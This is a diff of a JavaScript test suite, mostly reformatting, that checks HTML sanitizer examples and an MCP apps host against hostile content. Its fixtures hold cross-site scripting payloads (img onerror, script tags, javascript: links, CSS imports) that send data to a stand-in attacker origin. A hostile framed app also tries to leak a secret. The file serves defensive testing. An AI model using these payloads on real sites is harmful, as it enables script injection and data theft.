@@ -20,7 +20,11 @@ test("docs/recipes.md prints the examples' own code", () => {
   const files = RECIPES.flatMap(codeOf);
   assert.ok(blocks.length >= RECIPES.length);
   for (const code of blocks) assert.ok(files.includes(code), code);
-  for (const name of RECIPES) assert.ok(codeOf(name).some((code) => blocks.includes(code)), name);
+  for (const name of RECIPES)
+    assert.ok(
+      codeOf(name).some((code) => blocks.includes(code)),
+      name,
+    );
 });
 
 for (const name of RECIPES) {
@@ -91,18 +95,29 @@ for (const name of ["markdown-it", "marked", "rehype"]) {
     const [, html] = /```html\n(.*?)\n```/s.exec(read(name, "README.md"));
     assert.equal(output, html);
     assert.doesNotMatch(output, /<img|onerror=|="javascript:|src=/);
-    for (const kept of [/<b>Total: 7<\/b>/, /<em>passed<\/em>/, /href="https:\/\/ci\.example\/log"/]) assert.match(output, kept);
+    for (const kept of [/<b>Total: 7<\/b>/, /<em>passed<\/em>/, /href="https:\/\/ci\.example\/log"/])
+      assert.match(output, kept);
     if (name !== "rehype") assert.match(output, /<td>7 s<\/td>/);
   });
 }
 
 const ATTACKS = (evil) => [
-  { type: "text", text: `<img src="${evil}/i" onerror="fetch('${evil}/h')"><script>fetch('${evil}/s')</script><b>Total: 7</b>` },
-  { type: "text", text: `<a href="javascript:fetch('${evil}/j')">x</a><form action="${evil}/f"><style>@import '${evil}/c'</style>` },
+  {
+    type: "text",
+    text: `<img src="${evil}/i" onerror="fetch('${evil}/h')"><script>fetch('${evil}/s')</script><b>Total: 7</b>`,
+  },
+  {
+    type: "text",
+    text: `<a href="javascript:fetch('${evil}/j')">x</a><form action="${evil}/f"><style>@import '${evil}/c'</style>`,
+  },
   { type: "resource_link", uri: "https://files.test/report.pdf", name: "report", icons: [{ src: `${evil}/icon` }] },
   {
     type: "resource",
-    resource: { uri: "ui://app", mimeType: "text/html", text: `<p>kept</p><script>fetch('${evil}/u')</script><img src="${evil}/v">` },
+    resource: {
+      uri: "ui://app",
+      mimeType: "text/html",
+      text: `<p>kept</p><script>fetch('${evil}/u')</script><img src="${evil}/v">`,
+    },
   },
 ];
 
@@ -176,9 +191,18 @@ test("examples/trusted-types sanitizes what others write, and refuses scripts", 
     };
   }, evil.origin);
   assert.deepEqual(told, {
-    insert: "<i>i</i>", outer: "<s>s</s>", srcdoc: "<s>s</s>", write: "<s>s</s>", parser: "<u>u</u>",
-    eval: "EvalError", function: "EvalError", script: "TypeError", text: "TypeError", worker: "TypeError",
-    policy: "TypeError", attribute: "set",
+    insert: "<i>i</i>",
+    outer: "<s>s</s>",
+    srcdoc: "<s>s</s>",
+    write: "<s>s</s>",
+    parser: "<u>u</u>",
+    eval: "EvalError",
+    function: "EvalError",
+    script: "TypeError",
+    text: "TypeError",
+    worker: "TypeError",
+    policy: "TypeError",
+    attribute: "set",
   });
   await page.waitForTimeout(300);
   assert.deepEqual([evil.hits, errors], [[], []], "what is no markup, the header holds");
@@ -220,12 +244,22 @@ const APP = (evil, api) => `<!doctype html><title>App</title><p id="told"></p><p
     say({ id: 1, method: "ui/initialize", params: { appInfo: { name: "app", version: "1.0.0" }, appCapabilities: {}, protocolVersion: "2026-01-26" } });
   </script>`;
 
-test("examples/mcp-apps-host frames a hostile app, which reaches what the host grants and nothing else", { skip: NO_PACKAGES }, async (t) => {
+test("examples/mcp-apps-host frames a hostile app, which reaches what the host grants and nothing else", {
+  skip: NO_PACKAGES,
+}, async (t) => {
   const [evil, api] = [await attacker(t), await attacker(t)];
   const html = APP(evil.origin, api.origin);
   const url = await mcp(t, (server) => {
-    server.registerTool("app", { description: "has an app", _meta: { ui: { resourceUri: "ui://app/main" } } }, async () => ({ content: [{ type: "text", text: "a secret" }] }));
-    const csp = { connectDomains: [evil.origin, api.origin], resourceDomains: [evil.origin], frameDomains: [evil.origin] };
+    server.registerTool(
+      "app",
+      { description: "has an app", _meta: { ui: { resourceUri: "ui://app/main" } } },
+      async () => ({ content: [{ type: "text", text: "a secret" }] }),
+    );
+    const csp = {
+      connectDomains: [evil.origin, api.origin],
+      resourceDomains: [evil.origin],
+      frameDomains: [evil.origin],
+    };
     server.registerResource("app", "ui://app/main", { mimeType: "text/html;profile=mcp-app" }, async () => ({
       contents: [{ uri: "ui://app/main", mimeType: "text/html;profile=mcp-app", text: html, _meta: { ui: { csp } } }],
     }));
@@ -233,25 +267,38 @@ test("examples/mcp-apps-host frames a hostile app, which reaches what the host g
   const [, starts, ...rest] = commands("mcp-apps-host");
   assert.deepEqual(rest, []);
   assert.match(starts, /https:\/\/api\.example\.com .* http:\/\/127\.0\.0\.1:8000\/mcp NAME$/);
-  const command = starts.replace("https://api.example.com", api.origin).replace("http://127.0.0.1:8000/mcp NAME", `${url} app`);
+  const command = starts
+    .replace("https://api.example.com", api.origin)
+    .replace("http://127.0.0.1:8000/mcp NAME", `${url} app`);
   const host = await server(t, ready(t, "mcp-apps-host"), command);
   const { page, errors } = await open(t, host.url);
   const frame = await (await page.waitForSelector("iframe")).contentFrame();
   await frame.waitForFunction(() => document.querySelector("#outcome")?.textContent, null, { timeout: 30_000 });
   assert.equal(await frame.textContent("#told"), "a secret", "the app and its host speak with each other");
   assert.deepEqual(JSON.parse(await frame.textContent("#outcome")), {
-    api: "sent", evil: "refused", script: "refused", parent: "refused", origin: "null",
+    api: "sent",
+    evil: "refused",
+    script: "refused",
+    parent: "refused",
+    origin: "null",
   });
   await frame.evaluate(() => window.leave());
   await page.waitForTimeout(1_500);
   assert.deepEqual([api.hits, evil.hits, page.url(), errors], [["/api"], [], host.url, []]);
-  assert.match(host.said(), new RegExp(`connectDomains\\[0\\] ${evil.origin}`), "and the host is told what it asked for");
+  assert.match(
+    host.said(),
+    new RegExp(`connectDomains\\[0\\] ${evil.origin}`),
+    "and the host is told what it asked for",
+  );
 
   // Without a policy the same document reaches the attacker in most of these ways.
   const open2 = await listen(t, (_, response) => response.setHeader("Content-Type", "text/html").end(html));
   const { page: bare } = await open(t, open2);
-  await bare.evaluate(() => postMessage({ method: "ui/notifications/tool-result", params: { content: [{ text: "a secret" }] } }, "*"));
+  await bare.evaluate(() =>
+    postMessage({ method: "ui/notifications/tool-result", params: { content: [{ text: "a secret" }] } }, "*"),
+  );
   await bare.waitForURL(/\?a/, { timeout: 10_000 }).catch(() => {});
   await new Promise((resolve) => setTimeout(resolve, 500));
-  for (const path of ["/img", "/css", "/js", "/frame", "/fetch", "/beacon", "/image"]) assert.ok(evil.hits.includes(path), `${path} of ${evil.hits}`);
+  for (const path of ["/img", "/css", "/js", "/frame", "/fetch", "/beacon", "/image"])
+    assert.ok(evil.hits.includes(path), `${path} of ${evil.hits}`);
 });
